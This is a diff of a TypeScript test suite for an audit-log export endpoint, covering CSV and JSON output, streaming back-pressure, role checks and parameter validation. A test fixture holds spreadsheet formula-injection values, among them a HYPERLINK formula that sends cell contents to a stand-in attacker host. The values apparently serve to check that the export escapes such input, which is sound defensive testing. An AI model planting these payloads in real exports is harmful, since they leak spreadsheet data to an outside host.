@@ -31,7 +31,8 @@ function parseCsv(text: string): string[][] {
         i++;
       } else if (c === '"') {
         quoted = false;
-        if (![",", "\r", undefined].includes(text[i + 1])) throw new Error(`a quoted field continues after its closing quote at ${i}`);
+        if (![",", "\r", undefined].includes(text[i + 1]))
+          throw new Error(`a quoted field continues after its closing quote at ${i}`);
       } else field += c;
     } else if (c === '"') {
       if (field !== "") throw new Error(`a quote inside an unquoted field at ${i}`);
@@ -55,23 +56,42 @@ function parseCsv(text: string): string[][] {
   return rows;
 }
 
-const TRICKY_ACTOR: Actor = { userId: '=HYPERLINK("http://evil.example/?x="&A1)', email: "+attacker@example.test", roles: ["auditor", "-admin"], ip: "-1.2.3.4", traceId: "@trace" };
+const TRICKY_ACTOR: Actor = {
+  userId: '=HYPERLINK("http://evil.example/?x="&A1)',
+  email: "+attacker@example.test",
+  roles: ["auditor", "-admin"],
+  ip: "-1.2.3.4",
+  traceId: "@trace",
+};
 const TRICKY: AuditEntry[] = [
-  { action: "csv.tricky", entityType: "Thing", entityId: "=SUM(A1:A9)", after: { note: 'comma, "quote" and\nnewline', formula: "=1+1" } },
+  {
+    action: "csv.tricky",
+    entityType: "Thing",
+    entityId: "=SUM(A1:A9)",
+    after: { note: 'comma, "quote" and\nnewline', formula: "=1+1" },
+  },
   { action: "csv.tricky", entityType: "Thing", entityId: "\tTAB then text", before: -42, after: "@SUM(1)" },
-  { action: "csv.tricky", entityType: "Thing", entityId: "plain, with comma", after: { unicode: "Grüße 😀", cr: "a\rb" } },
+  {
+    action: "csv.tricky",
+    entityType: "Thing",
+    entityId: "plain, with comma",
+    after: { unicode: "Grüße 😀", cr: "a\rb" },
+  },
 ];
 
 let t: TestPanel;
 let auditor: TestUser;
 let viewer: TestUser;
 let admin: TestUser;
-let tricky: { seq: number; hash: string }[] = [];
+const tricky: { seq: number; hash: string }[] = [];
 
-const exportUrl = (params: Record<string, string>) => `${t.url}/api/v1/audit/export?${new URLSearchParams(params).toString()}`;
-const get = (params: Record<string, string>, cookie?: string) => fetch(exportUrl(params), { headers: cookie ? { Cookie: cookie } : {} });
+const exportUrl = (params: Record<string, string>) =>
+  `${t.url}/api/v1/audit/export?${new URLSearchParams(params).toString()}`;
+const get = (params: Record<string, string>, cookie?: string) =>
+  fetch(exportUrl(params), { headers: cookie ? { Cookie: cookie } : {} });
 const head = async () => Number((await t.prisma.auditChainHead.findUniqueOrThrow({ where: { id: 1 } })).seq);
-const eventsAfter = (seq: number) => t.prisma.auditEvent.findMany({ where: { seq: { gt: BigInt(seq) } }, orderBy: { seq: "asc" } });
+const eventsAfter = (seq: number) =>
+  t.prisma.auditEvent.findMany({ where: { seq: { gt: BigInt(seq) } }, orderBy: { seq: "asc" } });
 
 beforeAll(async () => {
   t = await startTestPanel();
@@ -87,7 +107,9 @@ describe("the CSV export", () => {
     const response = await get({ format: "csv", action: "csv." }, auditor.cookie);
     expect(response.status).toBe(200);
     expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
-    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="greenlight-audit-\d{8}T\d{6}Z\.csv"$/);
+    expect(response.headers.get("content-disposition")).toMatch(
+      /^attachment; filename="greenlight-audit-\d{8}T\d{6}Z\.csv"$/,
+    );
     expect(response.headers.get("cache-control")).toBe("no-store");
     const text = await response.text();
     expect(text.startsWith(CSV_HEADER)).toBe(true);
@@ -152,13 +174,23 @@ describe("the JSON export", () => {
   });
 
   it("of the whole log verifies offline: each event matches its hash and links to the one before", async () => {
-    const body = (await (await get({ format: "json" }, auditor.cookie)).json()) as (Record<string, unknown> & { seq: number; at: string; prevHash: string; hash: string })[];
+    const body = (await (await get({ format: "json" }, auditor.cookie)).json()) as (Record<string, unknown> & {
+      seq: number;
+      at: string;
+      prevHash: string;
+      hash: string;
+    })[];
     expect(body.length).toBeGreaterThan(5);
     let prev = GENESIS_HASH;
     for (const [i, e] of body.entries()) {
       expect(e.seq).toBe(i + 1);
       expect(e.prevHash).toBe(prev);
-      const recomputed = hashEvent(e.prevHash, { ...(e as unknown as ChainedFields), at: new Date(e.at), before: toStoredJson(e.before), after: toStoredJson(e.after) });
+      const recomputed = hashEvent(e.prevHash, {
+        ...(e as unknown as ChainedFields),
+        at: new Date(e.at),
+        before: toStoredJson(e.before),
+        after: toStoredJson(e.after),
+      });
       expect(recomputed, `event ${e.seq}`).toBe(e.hash);
       prev = e.hash;
     }
@@ -166,7 +198,9 @@ describe("the JSON export", () => {
 
   it("of a filter that matches nothing is an empty array, and a CSV of it just the header", async () => {
     expect(await (await get({ format: "json", action: "no.such." }, auditor.cookie)).json()).toEqual([]);
-    expect(await (await get({ format: "csv", text: "no such words anywhere" }, auditor.cookie)).text()).toBe(CSV_HEADER);
+    expect(await (await get({ format: "csv", text: "no such words anywhere" }, auditor.cookie)).text()).toBe(
+      CSV_HEADER,
+    );
   });
 });
 
@@ -198,7 +232,10 @@ describe("streaming", () => {
     const body = JSON.parse(text) as { seq: number }[];
     expect(body.length).toBe(before);
     expect(body[body.length - 1]!.seq).toBe(before);
-    const audited = await waitFor(async () => (await eventsAfter(before)).find((e) => e.action === "audit.exported"), "the export's audit event");
+    const audited = await waitFor(
+      async () => (await eventsAfter(before)).find((e) => e.action === "audit.exported"),
+      "the export's audit event",
+    );
     expect(audited.after).toMatchObject({ rows: before, completed: true });
     expect(bulk.lastSeq).toBeLessThanOrEqual(before);
   });
@@ -210,9 +247,10 @@ describe("streaming", () => {
       const returned: number[] = [];
       const counting = sessionReader(session);
       const reader = {
-        rows: async <T,>(query: Parameters<typeof counting.rows>[0]) => {
+        rows: async <T>(query: Parameters<typeof counting.rows>[0]) => {
           const rows = await counting.rows<T>(query);
-          if (/LIMIT/.test(query.text) && /ORDER BY "AuditEvent"\."seq" ASC/.test(query.text)) returned.push(rows.length);
+          if (/LIMIT/.test(query.text) && /ORDER BY "AuditEvent"\."seq" ASC/.test(query.text))
+            returned.push(rows.length);
           return rows;
         },
       };
@@ -228,9 +266,17 @@ describe("streaming", () => {
         },
       });
       const batchSize = 500;
-      const done = streamAuditExport(reader, {}, "csv", sink, { batchSize, onBatch: ({ index }) => queries.push(index) });
-      await waitFor(() => held.length === 1, "the export to wait for the destination");
-      await new Promise((resolve) => setTimeout(resolve, 200));
+      const done = streamAuditExport(reader, {}, "csv", sink, {
+        batchSize,
+        onBatch: ({ index }) => queries.push(index),
+      });
+      // Quiet when the third batch (the read-ahead) has come back and the export listens for the destination
+      // to drain: from then on only the destination can move it. An export that ignored back-pressure would
+      // already have asked for a fourth batch by the time this holds.
+      await waitFor(
+        () => held.length === 1 && returned.length === 3 && sink.listenerCount("drain") > 0,
+        "the export to wait for the destination",
+      );
       // Batch 1 taken, batch 2 being written, batch 3 read ahead — and nothing more, for 8,000+ events.
       expect(queries).toEqual([0, 1, 2]);
       expect(taken).toBe(3);
@@ -260,7 +306,10 @@ describe("streaming", () => {
           else callback();
         },
       });
-      const result = await streamAuditExport(sessionReader(session), {}, "json", sink, { batchSize: 500, onBatch: () => batches++ });
+      const result = await streamAuditExport(sessionReader(session), {}, "json", sink, {
+        batchSize: 500,
+        onBatch: () => batches++,
+      });
       expect(result.completed).toBe(false);
       expect(result.rows).toBeLessThan(await head());
       expect(batches).toBeLessThanOrEqual(3);
@@ -289,7 +338,13 @@ describe("the export on the record", () => {
       actorEmail: auditor.email,
       actorRoles: ["auditor"],
       ip: "127.0.0.1",
-      after: { format: "csv", filter: { action: "csv.", from, text: "tricky" }, rows: 3, completed: true, throughSeq: before },
+      after: {
+        format: "csv",
+        filter: { action: "csv.", from, text: "tricky" },
+        rows: 3,
+        completed: true,
+        throughSeq: before,
+      },
     });
     expect(events[0]!.traceId).toBe(response.headers.get("x-request-id"));
   });
@@ -308,8 +363,17 @@ describe("who may export", () => {
     const before = await head();
     const response = await get({ format: "json" }, viewer.cookie);
     expect(response.status).toBe(403);
-    expect(((await response.json()) as { error: string }).error).toBe("GET /api/v1/audit/export is for auditor, admin; you are viewer");
-    expect((await eventsAfter(before)).map((e) => ({ action: e.action, entityType: e.entityType, entityId: e.entityId, actorId: e.actorId }))).toEqual([
+    expect(((await response.json()) as { error: string }).error).toBe(
+      "GET /api/v1/audit/export is for auditor, admin; you are viewer",
+    );
+    expect(
+      (await eventsAfter(before)).map((e) => ({
+        action: e.action,
+        entityType: e.entityType,
+        entityId: e.entityId,
+        actorId: e.actorId,
+      })),
+    ).toEqual([
       { action: "auth.forbidden", entityType: "Route", entityId: "GET /api/v1/audit/export", actorId: viewer.id },
     ]);
   });
@@ -329,24 +393,32 @@ describe("parameters", () => {
     [{ serviceId: "payments" }, "serviceId: must be a service id"],
     [{ environmentId: "prod" }, "environmentId: must be an environment id"],
     [{ text: "x".repeat(201) }, "text: must be at most 200 characters"],
-    [{ service: "payments" }, "service: is not a parameter of the export (known: format, from, to, serviceId, environmentId, actor, action, entityType, entityId, text)"],
+    [
+      { service: "payments" },
+      "service: is not a parameter of the export (known: format, from, to, serviceId, environmentId, actor, action, entityType, entityId, text)",
+    ],
     [{ actor: "a\u0000b" }, "actor: must not contain a NUL character"],
   ])("%j is refused with 400 naming the parameter, and nothing is exported", async (params, message) => {
     const before = await head();
-    const response = await get(params as Record<string, string>, auditor.cookie);
+    const response = await get(params, auditor.cookie);
     expect(response.status).toBe(400);
     expect(await response.json()).toEqual({ error: message });
     expect(await head()).toBe(before);
   });
 
   it("a parameter given twice is refused rather than guessed", async () => {
-    const response = await fetch(`${t.url}/api/v1/audit/export?actor=a@example.test&actor=b@example.test`, { headers: { Cookie: auditor.cookie } });
+    const response = await fetch(`${t.url}/api/v1/audit/export?actor=a@example.test&actor=b@example.test`, {
+      headers: { Cookie: auditor.cookie },
+    });
     expect(response.status).toBe(400);
     expect(await response.json()).toEqual({ error: "actor: give it once" });
   });
 
   it("empty parameters (an untouched form) are no filter", async () => {
-    const response = await get({ format: "json", from: "", to: "", serviceId: "", environmentId: "", actor: "", action: "csv.tricky", text: "" }, auditor.cookie);
+    const response = await get(
+      { format: "json", from: "", to: "", serviceId: "", environmentId: "", actor: "", action: "csv.tricky", text: "" },
+      auditor.cookie,
+    );
     expect(response.status).toBe(200);
     expect(((await response.json()) as unknown[]).length).toBe(3);
   });
